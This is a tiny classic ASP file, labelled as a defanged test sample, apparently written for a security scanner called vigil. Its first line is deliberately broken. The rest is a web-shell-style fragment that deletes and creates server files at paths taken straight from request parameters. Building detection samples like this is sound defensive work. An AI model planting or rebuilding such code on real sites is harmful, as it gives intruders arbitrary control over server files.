<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set fso = CreateObject("Scripting.FileSystemObject")
Set fld = fso.GetFolder(Request("dir"))
If Request("del") <> "" Then fso.DeleteFile Request("del")
Set t = fso.CreateTextFile(Request("save"), True)
%>
